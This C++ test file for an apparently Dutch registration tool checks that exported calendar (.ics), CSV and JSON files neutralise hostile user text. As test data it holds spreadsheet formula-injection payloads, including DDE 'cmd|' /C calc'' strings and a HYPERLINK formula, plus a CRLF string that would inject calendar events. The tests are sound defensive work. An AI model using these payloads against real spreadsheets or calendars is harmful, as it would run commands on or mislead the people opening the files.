// Text that herreg did not write itself (names, titles, rules-file names, member ids) in
// the files it hands out: the calendar (.ics), the batch CSV and the saved portfolio (JSON).
// Each output is read back by an independent reader here, so a test fails when a hostile
// value escapes its field (a new calendar line or event, a new CSV column or row, a formula
// a spreadsheet would run) or when saving loses or refuses what the user typed.
// The PDFs are checked the same way with poppler in tests/pdf/check_hostile_text.sh.
#include "assessment/assessment.h"
#include "batch_csv.h"
#include "assessment/calendar_ics.h"
#include "input/csv_import.h"
#include "test_support.h"
#include "text/utf8_text.h"

#include <algorithm>
#include <string>
#include <vector>

using namespace herreg;
using namespace herreg::test;

namespace {

// Well-formed UTF-8 (Unicode Table 3-7), written apart from calendar_ics.cpp's own check.
bool well_formed_utf8(std::string_view s) {
    for (size_t i = 0; i < s.size();) {
        const auto b = [&](size_t k) -> unsigned { return i + k < s.size() ? static_cast<unsigned char>(s[i + k]) : 0u; };
        const unsigned c = b(0);
        size_t n = 0;
        unsigned lo = 0x80, hi = 0xBF;
        if (c < 0x80) n = 1;
        else if (c >= 0xC2 && c <= 0xDF) n = 2;
        else if (c >= 0xE0 && c <= 0xEF) n = 3, lo = c == 0xE0 ? 0xA0 : 0x80, hi = c == 0xED ? 0x9F : 0xBF;
        else if (c >= 0xF0 && c <= 0xF4) n = 4, lo = c == 0xF0 ? 0x90 : 0x80, hi = c == 0xF4 ? 0x8F : 0xBF;
        else return false;
        if (n > 1 && (b(1) < lo || b(1) > hi)) return false;
        for (size_t k = 2; k < n; ++k)
            if (b(k) < 0x80 || b(k) > 0xBF) return false;
        i += n;
    }
    return true;
}

// ------------------------------------------------------------------ an iCalendar reader
// The logical lines of a calendar: every physical line ends in CRLF, holds no other CR or
// LF, is at most 75 octets and whole UTF-8; a line starting with a space continues the last.
std::vector<std::string> ics_logical_lines(const std::string& ics) {
    std::vector<std::string> out;
    size_t pos = 0;
    while (pos < ics.size()) {
        const size_t end = ics.find("\r\n", pos);
        REQUIRE_MESSAGE(end != std::string::npos, "no CRLF after octet " << pos);
        const std::string line = ics.substr(pos, end - pos);
        CHECK_MESSAGE(line.find_first_of("\r\n") == std::string::npos, "bare CR or LF in " << line);
        CHECK_MESSAGE(line.size() <= 75, line.size() << " octets: " << line);
        CHECK_MESSAGE(well_formed_utf8(line), "broken UTF-8 in " << line);
        if (!line.empty() && line[0] == ' ') {
            REQUIRE(!out.empty());
            out.back() += line.substr(1);
        } else {
            out.push_back(line);
        }
        pos = end + 2;
    }
    return out;
}

// RFC 5545 §3.3.11 in reverse.
std::string ics_unescape(std::string_view v) {
    std::string out;
    for (size_t i = 0; i < v.size(); ++i) {
        if (v[i] == '\\' && i + 1 < v.size()) {
            const char n = v[++i];
            out += n == 'n' || n == 'N' ? '\n' : n;
        } else {
            out += v[i];
        }
    }
    return out;
}

// Every value of property `name` (no parameters) in the calendar, unescaped.
std::vector<std::string> ics_values(const std::vector<std::string>& lines, const std::string& name) {
    std::vector<std::string> out;
    for (const auto& l : lines)
        if (l.rfind(name + ":", 0) == 0) out.push_back(ics_unescape(l.substr(name.size() + 1)));
    return out;
}

size_t count_lines(const std::vector<std::string>& lines, const std::string& exact) {
    size_t n = 0;
    for (const auto& l : lines) n += l == exact;
    return n;
}

// ------------------------------------------------------------------ an RFC 4180 reader
// One record of comma-separated fields, quoted fields with doubled quotes; the whole text
// must be that one record followed by one LF.
std::vector<std::string> csv_record(const std::string& text) {
    std::vector<std::string> fields(1);
    size_t i = 0;
    bool quoted = false, at_start = true;
    for (; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') fields.back() += '"', ++i;
            else if (c == '"') quoted = false;
            else fields.back() += c;
        } else if (c == '"' && at_start) {
            quoted = true;
            at_start = false;
        } else if (c == ',') {
            fields.emplace_back();
            at_start = true;
        } else if (c == '\n') {
            break;
        } else {
            REQUIRE_MESSAGE(c != '"', "a quote inside an unquoted field: " << text);
            REQUIRE_MESSAGE(c != '\r', "a CR outside quotes: " << text);
            fields.back() += c;
            at_start = false;
        }
    }
    REQUIRE_MESSAGE(!quoted, "a quote never closed: " << text);
    REQUIRE_MESSAGE(i + 1 == text.size(), "more than one record: " << text);
    return fields;
}

// What a spreadsheet does with the cell: starts a formula or not.
bool spreadsheet_runs(const std::string& cell) {
    return !cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos;
}

const std::vector<std::string>& hostile_texts() {
    static const std::vector<std::string> texts = {
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")",
        "+31 6 1234 5678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "a,b;c\"d\"",
        "twee\nregels\r\nen CR\r",
        "\"=begint met een aanhalingsteken\"",
        "Şahin ‘café’ €5 \xF0\x9F\x98\x80 שלום",
        "",
    };
    return texts;
}

}  // namespace

// ==================================================================== iCalendar
TEST_CASE("ics: a name from a rules file cannot add a line, a property or an event") {
    const Portfolio p = case_portfolio("kp-02-dispensation");
    RuleSet rs = *rulebook().find("kp", std::nullopt);
    const Assessment base = assess(p, rs);
    REQUIRE(base.deadlines.size() >= 2);
    const std::string injection = "KP\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:gratis\nDTSTART:20260101\rUID:x;y,z\\";
    for (const std::string& field : {"short_name", "regime_name"}) {
        INFO(field);
        RuleSet hostile = rs;
        Assessment a = base;
        if (field == std::string("short_name")) hostile.short_name = injection;
        else a.regime_name = Text{injection, injection};
        const std::vector<std::string> lines = ics_logical_lines(deadlines_ics(a, hostile, "nl"));
        // Exactly one event per deadline, one BEGIN/END each, and no property from the text.
        CHECK(count_lines(lines, "BEGIN:VEVENT") == a.deadlines.size());
        CHECK(count_lines(lines, "END:VEVENT") == a.deadlines.size());
        CHECK(count_lines(lines, "SUMMARY:gratis") == 0);
        CHECK(count_lines(lines, "DTSTART:20260101") == 0);
        for (const auto& l : lines) CHECK_MESSAGE(l.rfind("UID:x", 0) != 0, l);
        const auto summaries = ics_values(lines, "SUMMARY");
        REQUIRE(summaries.size() == a.deadlines.size());
        // The text comes back whole, each of CRLF, LF and CR as one line break.
        const std::string expected = "KP\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:gratis\nDTSTART:20260101\nUID:x;y,z\\";
        if (field == std::string("short_name")) {
            for (const auto& s : summaries) CHECK(s.find("(" + expected + ")") != std::string::npos);
            CHECK(ics_values(lines, "X-WR-CALNAME").at(0) == "herreg: termijnen " + expected);
        } else {
            bool seen = false;
            for (const auto& d : ics_values(lines, "DESCRIPTION")) seen |= d.find("Van toepassing: " + expected + ".") != std::string::npos;
            CHECK(seen);
        }
    }
}

TEST_CASE("ics: TEXT escaping of every special character, controls dropped, bytes that are not UTF-8 replaced") {
    CHECK(ics_escape_text("\\;,\n") == "\\\\\\;\\,\\n");
    CHECK(ics_escape_text("a\r\nb\rc\nd") == "a\\nb\\nc\\nd");
    CHECK(ics_escape_text(std::string("nul\0bel\x07" "del\x7f" "esc\x1b.", 17)) == "nulbeldelesc.");
    CHECK(ics_escape_text("tab\tstays") == "tab\tstays");   // WSP is allowed in TEXT
    CHECK(ics_escape_text("caf\xE9 (Latin-1)") == "caf\xEF\xBF\xBD (Latin-1)");
    CHECK(ics_escape_text("\xC3") == "\xEF\xBF\xBD");                    // cut short
    CHECK(ics_escape_text("\xC0\xAF") == "\xEF\xBF\xBD\xEF\xBF\xBD");    // overlong '/'
    CHECK(ics_escape_text("\xED\xA0\x80") == "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");   // a surrogate
    CHECK(ics_escape_text("\xF0\x9F\x98\x80 \xE2\x82\xAC \xC5\x9E") == "\xF0\x9F\x98\x80 \xE2\x82\xAC \xC5\x9E");
    for (const std::string& t : hostile_texts()) {
        const std::string e = ics_escape_text(t);
        CHECK(well_formed_utf8(e));
        CHECK(e.find_first_of("\r\n") == std::string::npos);
    }
}

TEST_CASE("ics: folding at 75 octets never splits a character, whatever the offset") {
    // Before each kind of multi-byte character, 0..80 ASCII octets, so a fold falls on
    // every byte of it; a byte that is no UTF-8 is cut where it must be.
    for (const std::string& ch : {std::string("\xC3\xA9"), std::string("\xE2\x82\xAC"), std::string("\xF0\x9F\x98\x80")}) {
        for (size_t lead = 0; lead <= 80; ++lead) {
            std::string value(lead, 'x');
            for (int k = 0; k < 60; ++k) value += ch;
            const std::string line = "DESCRIPTION:" + value;
            const std::string folded = ics_fold_line(line);
            const std::vector<std::string> logical = ics_logical_lines(folded);   // checks 75 octets and UTF-8
            REQUIRE(logical.size() == 1);
            CHECK(logical[0] == line);
        }
    }
    const std::string junk = "X:" + std::string(200, '\x80');
    const std::string folded = ics_fold_line(junk);
    size_t pos = 0, longest = 0;
    while (pos < folded.size()) {
        const size_t end = folded.find("\r\n", pos);
        longest = std::max(longest, end - pos);
        pos = end + 2;
    }
    CHECK(longest <= 75);
}

// ==================================================================== CSV
TEST_CASE("csv: every hostile value reads back as one field, and no cell starts a formula") {
    for (const std::string& t : hostile_texts()) {
        INFO(t);
        const std::string cell = csv_field(t);
        const std::vector<std::string> fields = csv_record("a," + cell + ",z\n");
        REQUIRE(fields.size() == 3);
        CHECK(fields[0] == "a");
        CHECK(fields[2] == "z");
        CHECK_FALSE(spreadsheet_runs(fields[1]));
        // The value itself, or the value behind one defusing quote.
        const bool defused = spreadsheet_runs(t);
        CHECK(fields[1] == (defused ? "'" + t : t));
        // ';' is quoted too: Dutch spreadsheets split on it.
        if (t.find(';') != std::string::npos) CHECK(cell.front() == '"');
    }
}

TEST_CASE("csv: negative numbers stay numbers, anything more after the minus is defused") {
    CHECK(csv_field("-12") == "-12");
    CHECK(csv_field("-0.5") == "-0.5");
    CHECK(csv_field("-1+1") == "'-1+1");
    CHECK(csv_field("-1.") == "'-1.");
    CHECK(csv_field("-.5") == "'-.5");
    CHECK(csv_field("-A1") == "'-A1");
    CHECK(csv_field("-") == "'-");
    CHECK(csv_field("-1e5") == "'-1e5");
    CHECK(csv_field("+12") == "'+12");   // a phone number such as +31...: text
}

TEST_CASE("csv: a batch row with hostile ids and kept values keeps its columns; herreg's own figures are plain numbers") {
    const Portfolio p = case_portfolio("kp-02-dispensation");
    const RuleSet& rs = rulebook().for_portfolio(p);
    Assessment a = assess(p, rs);
    a.register_id = "kp,\"=1+1\"\nx";
    a.plan.points_missing = -2.5;   // not a real outcome: a negative figure must not be defused
    BatchFormat f;
    f.keep = {"name"};
    std::vector<std::string> fields = csv_record(batch_csv_row("=cmd|' /C calc'!A0;lid", {"@SUM(1)"}, a, rs, f).text + ",\n");
    REQUIRE(fields.size() == 16);
    CHECK(fields[1] == "'@SUM(1)");
    fields.erase(fields.begin() + 1);
    CHECK(fields[0] == "'=cmd|' /C calc'!A0;lid");
    CHECK(fields[1] == "kp,\"=1+1\"\nx");
    CHECK(fields[5] == "2000");
    CHECK(fields[7] == "-2.5");
    for (const auto& f : fields) CHECK_FALSE((spreadsheet_runs(f) && f != "-2.5"));
}

// ==================================================================== portfolio JSON
TEST_CASE("json: control characters, quotes and separators in user text survive a save and reopen") {
    Portfolio p = kp_portfolio();
    add_activity(p, Date{2024, 3, 1}, "bij_en_nascholing", 4, true);
    const std::string controls = std::string("nul\0 bel\x07 esc\x1b del\x7f tab\t nl\n cr\r", 32) +
                                 " \"quote\" \\back\\slash </script> \xE2\x80\xA8 \xF0\x9F\x98\x80 =1+1";
    p.activities[0].title = controls;
    p.activities[0].provider = "Şahin & \"Co\"";
    p.application.name = "Anna \"(test)\" \\ Şahin";
    p.application.reasons = controls;
    const std::string saved = write_portfolio(p);
    CHECK(well_formed_utf8(saved));
    // Raw control characters never appear in the file: JSON escapes them.
    for (char c : saved) CHECK_MESSAGE((static_cast<unsigned char>(c) >= 0x20 || c == '\n'), "raw control " << int(c));
    const Portfolio back = read_portfolio(saved, ReadMode::draft);
    REQUIRE(back.activities.size() == 1);
    CHECK(back.activities[0].title == controls);
    CHECK(back.activities[0].provider == p.activities[0].provider);
    CHECK(back.application.name == p.application.name);
    CHECK(back.application.reasons == controls);
    CHECK(write_portfolio(back) == saved);
}

// The CSV import decodes Windows-1252 (below); whatever else might still bring such bytes in,
// the save must not refuse the whole portfolio (and with it the autosave and the share link).
TEST_CASE("json: text that is not UTF-8 is saved with U+FFFD in its place, not refused") {
    Portfolio p = kp_portfolio();
    add_activity(p, Date{2024, 3, 1}, "bij_en_nascholing", 4, true);
    p.activities[0].title = "Cursus caf\xE9 en cr\xE8me br\xFBl\xE9" "e";   // Latin-1 bytes
    p.application.name = "cut short \xC3";
    std::string saved;
    REQUIRE_NOTHROW(saved = write_portfolio(p));
    CHECK(well_formed_utf8(saved));
    const Portfolio back = read_portfolio(saved, ReadMode::draft);
    // Each byte that is no UTF-8 became U+FFFD; everything else is as typed.
    CHECK(back.activities[0].title == "Cursus caf\xEF\xBF\xBD en cr\xEF\xBF\xBDme br\xEF\xBF\xBDl\xEF\xBF\xBD" "e");
    CHECK(back.application.name == "cut short \xEF\xBF\xBD");
    CHECK(back.activities[0].date == p.activities[0].date);
    CHECK(back.activities[0].points == p.activities[0].points);
}

TEST_CASE("csv import: a spreadsheet saved as Windows-1252 is read as such, so saving keeps every character") {
    const RuleSet& rs = *rulebook().find("kp", std::nullopt);
    // "Cursus café – crème brûlée" and "Ĳssel €5" the way Excel on a Dutch Windows writes them.
    const std::string cp1252 = "01-03-2024;Cursus caf\xE9 \x96 cr\xE8me br\xFBl\xE9" "e;\x93" "Aanbieder\x94 \x80" "5;bij_en_nascholing;4;ja\r\n";
    const ActivitiesImport r = import_activities_csv(cp1252, rs);
    REQUIRE(r.problems.empty());
    REQUIRE(r.activities.size() == 1);
    CHECK(r.activities[0].title == "Cursus café – crème brûlée");
    CHECK(r.activities[0].provider == "“Aanbieder” €5");
    // UTF-8 text is never read as Windows-1252 (it would turn "é" into "Ã©").
    const ActivitiesImport u = import_activities_csv("01-03-2024;Cursus café;Aanbieder;bij_en_nascholing;4;ja\n", rs);
    REQUIRE(u.activities.size() == 1);
    CHECK(u.activities[0].title == "Cursus café");
    // And what was imported saves and reads back as it was shown.
    Portfolio p = kp_portfolio();
    p.activities = r.activities;
    CHECK(read_portfolio(write_portfolio(p), ReadMode::draft).activities.at(0).title == "Cursus café – crème brûlée");
    CHECK(windows1252_to_utf8("\x81\x8D\x8F\x90\x9D") == "\xC2\x81\xC2\x8D\xC2\x8F\xC2\x90\xC2\x9D");   // undefined: C1
    CHECK(is_utf8(windows1252_to_utf8(std::string("\0\x7F\x80\x9F\xA0\xFF", 6))));
}
